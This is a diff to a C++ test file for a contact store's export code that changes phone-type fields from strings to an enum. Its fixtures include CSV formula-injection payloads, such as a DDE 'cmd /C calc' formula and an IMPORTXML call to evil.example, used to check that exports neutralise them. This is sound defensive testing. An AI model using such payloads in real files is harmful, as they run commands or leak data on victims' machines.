@@ -180,10 +180,10 @@ Store tricky_store(std::int64_t now_epoch = 1'720'000'000) {
   jose.company = "Café, Bar; & Grill";
   jose.department = "R&D; Labs";
   jose.emails = {"jose@cafe.example", "j.nunez@mail.example"};
-  jose.phones = {{"work", "+41225550123", "+41 22 555 01 23", "12", 0.9},
-                 {"mobile", "+41795550199", "079 555 01 99", "", 0.9},
-                 {"fax", "+41225550124", "+41 22 555 01 24", "", 0.9},
-                 {"other", "", "0800 CAFE", "", 0.5}};
+  jose.phones = {{parse::PhoneType::work, "+41225550123", "+41 22 555 01 23", "12", 0.9},
+                 {parse::PhoneType::mobile, "+41795550199", "079 555 01 99", "", 0.9},
+                 {parse::PhoneType::fax, "+41225550124", "+41 22 555 01 24", "", 0.9},
+                 {parse::PhoneType::other, "", "0800 CAFE", "", 0.5}};
   jose.websites = {"https://café.example/menu?a=1,b=2;c=3"};
   jose.social = {{"linkedin", "linkedin.com/in/jose-nunez"},
                  {"x", "@jose_n"},
@@ -198,7 +198,7 @@ Store tricky_store(std::int64_t now_epoch = 1'720'000'000) {
   mallory.title = kInjection;  // parse output is stored as is; export must keep it one card
   parse::Contact company_only;
   company_only.company = "Ацме Ltd";
-  company_only.phones = {{"work", "+74955550100", "+7 495 555-01-00", "", 0.9}};
+  company_only.phones = {{parse::PhoneType::work, "+74955550100", "+7 495 555-01-00", "", 0.9}};
   REQUIRE(store.add_scan(first, now));
   REQUIRE(store.add_scan(scan_of("mallory", {mallory}), now));
   REQUIRE(store.add_scan(scan_of("ltd", {company_only}), now));
@@ -464,7 +464,7 @@ TEST_CASE("CSV cells a spreadsheet would run as formulas are neutralised unless 
   Store store = open_store();
   parse::Contact evil = person("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "jane@evil.example");
   evil.title = "+IMPORTXML(\"http://evil.example\")";
-  evil.phones = {{"work", "+14155550123", "+1 415 555 0123", "", 0.9}};
+  evil.phones = {{parse::PhoneType::work, "+14155550123", "+1 415 555 0123", "", 0.9}};
   REQUIRE(store.add_scan(scan_of("evil", {evil}, "-2+3+cmd|' /C calc'!A0")));
   for (CsvFormat format : {CsvFormat::google, CsvFormat::outlook}) {
     json rows = run_python(dir, kCsvRows, to_csv(store.contacts(), format));
